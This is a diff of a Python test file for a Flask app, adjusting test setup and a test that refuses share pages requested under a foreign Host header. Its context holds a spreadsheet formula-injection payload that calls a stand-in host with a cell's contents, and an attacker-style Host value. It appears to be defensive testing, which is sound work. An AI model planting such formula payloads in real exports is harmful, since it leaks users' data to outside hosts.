@@ -13,7 +13,7 @@ from companion import create_app, hardening
 from companion.config import Settings
 from companion.extensions import db
 from companion.models import Match
-from tests.conftest import PHONE_CREDENTIAL, csrf_token, grant_host_rights
+from tests.conftest import ADDRESS_KEY, PHONE_CREDENTIAL, csrf_token, grant_host_rights, ref
 
 HYPERLINK = '=HYPERLINK("http://e.x/?"&A1,"ok")'
 HTMX = {"HX-Request": "true"}
@@ -40,7 +40,7 @@ def upload(client, content: bytes, **headers):
 
 def fresh_app(tmp_path, database_url):
     """An app built now, so that it reads the environment the test has set."""
-    config = {"TESTING": True, "SQLALCHEMY_DATABASE_URI": database_url}
+    config = {"TESTING": True, "SQLALCHEMY_DATABASE_URI": database_url, "SECRET_KEY": ADDRESS_KEY}
     return create_app(config, instance_path=str(tmp_path / "instance"))
 
 
@@ -147,7 +147,7 @@ def test_the_share_page_of_a_foreign_host_is_refused(client, app):
     assert upload(client, json.dumps(topic_file(["Ann", "Bob"])).encode()).status_code == 302
     with app.app_context():
         match_id = db.session.scalar(select(Match.id))
-    for path in (f"/matches/{match_id}", f"/matches/{match_id}/share"):
+    for path in (f"/matches/{ref(match_id)}", f"/matches/{ref(match_id)}/share"):
         response = client.get(path, headers={"Host": "rebound.attacker.example"})
         assert response.status_code == 400, path
 
